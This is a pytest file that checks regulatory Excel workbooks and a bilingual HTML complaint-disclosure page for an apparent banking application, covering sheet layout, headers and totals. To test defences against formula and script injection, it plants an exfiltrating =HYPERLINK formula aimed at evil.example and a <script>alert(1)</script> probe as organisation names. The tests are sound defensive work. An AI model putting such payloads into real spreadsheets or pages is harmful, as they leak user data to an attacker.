"""The regulatory workbooks and the disclosure page: their sheets, headers and figures, and no
text ever becomes a formula."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from bankvoc.reports import regulatory
from bankvoc.reports.regulatory_html import disclosure_html
from bankvoc.reports.regulatory_xlsx import disclosure_workbook, jrt_workbook
from tests.analytics.conftest import Bank
from tests.conftest import World
from tests.reports.test_regulatory import Planted, plant

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def planted(world: World, session: Session) -> Planted:
    return plant(Bank(world=world, session=session))


def rows(data: bytes, sheet: str) -> list[list[object]]:
    book = load_workbook(io.BytesIO(data))
    return [list(r) for r in book[sheet].iter_rows(values_only=True)]


def stats(planted: Planted) -> regulatory.JrtStatistics:
    return regulatory.jrt_statistics(planted.bank.session,
                                     actor=planted.bank.world.actor("hq_admin"),
                                     period="2026-Q3")


class TestJrtWorkbook:
    def test_one_sheet_per_dimension_bulletin_and_orgs(self, planted: Planted) -> None:
        data = jrt_workbook(stats(planted))
        assert load_workbook(io.BytesIO(data)).sheetnames == [
            "说明 About", "渠道 Channel", "业务类别 Business type", "投诉原因 Cause",
            "通报类别 Bulletin", "机构 Orgs"]
        business = rows(data, "业务类别 Business type")
        assert business[1] == ["代码 Code", "名称 Name", "Name (English)", "北京分行 BJ",
                               "电话银行中心 PBC", "上海分行 SH",
                               f"{planted.bank.org('HQ').name}（本级） HQ", "合计 Total",
                               "占比% Share %"]
        credit = next(r for r in business if r[0] == "credit_card")
        assert credit[3:8] == [1, 0, 1, 0, 2]
        assert business[-1][:8] == ["total", "合计", "Total", 2, 0, 3, 1, 6]
        orgs = rows(data, "机构 Orgs")
        assert orgs[2][:6] == ["BJ", "北京分行", "BJ", 2, 1000, 5]
        assert orgs[-1][3:6] == [6, 2000, 12]

    def test_texts_that_look_like_formulas_stay_text(self, planted: Planted) -> None:
        bj, sh = planted.bank.org("BJ"), planted.bank.org("SH")
        bj.name, sh.name, sh.name_en = EVIL, "+86 上海", "@SUM(A1)"
        planted.bank.session.flush()
        data = jrt_workbook(stats(planted))
        book = load_workbook(io.BytesIO(data))
        cells = [c for sheet in book for row in sheet.iter_rows() for c in row
                 if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))]
        assert {c.value for c in cells} >= {EVIL, "+86 上海", "@SUM(A1)"}
        assert all(c.data_type == "s" for c in cells)
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            sheets = [archive.read(n) for n in archive.namelist()
                      if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in xml for xml in sheets)


class TestDisclosure:
    @pytest.fixture
    def disclosure(self, planted: Planted) -> regulatory.AnnualDisclosure:
        return regulatory.annual_disclosure(planted.bank.session,
                                            actor=planted.bank.world.actor("hq_admin"),
                                            year=2026)

    def test_the_workbook_holds_every_part(
        self, disclosure: regulatory.AnnualDisclosure
    ) -> None:
        data = disclosure_workbook(disclosure)
        assert load_workbook(io.BytesIO(data)).sheetnames == [
            "概况 Summary", "季度 Quarters", "业务类别 Business", "地区 Regions",
            "投诉原因 Causes", "处理方式 Outcomes"]
        summary = rows(data, "概况 Summary")
        assert summary[3][:2] == ["投诉量 Complaints", 8]
        assert rows(data, "季度 Quarters")[4][:3] == ["2026-Q3", 6, 1]
        assert rows(data, "地区 Regions")[2][:5] == ["BJ", "北京分行", "BJ", 4, 50]

    def test_the_page_is_bilingual_escaped_and_self_contained(
        self, planted: Planted
    ) -> None:
        planted.bank.org("SH").name = "<script>alert(1)</script>"
        planted.bank.session.flush()
        page = disclosure_html(regulatory.annual_disclosure(
            planted.bank.session, actor=planted.bank.world.actor("hq_admin"), year=2026))
        assert "共受理消费投诉 <strong>8</strong> 件，同比增长 300%" in page
        assert "we received <strong>8</strong> consumer complaints, up 300%" in page
        assert "<script>" not in page
        assert "&lt;script&gt;" in page
        assert "http://" not in page
        assert "https://" not in page
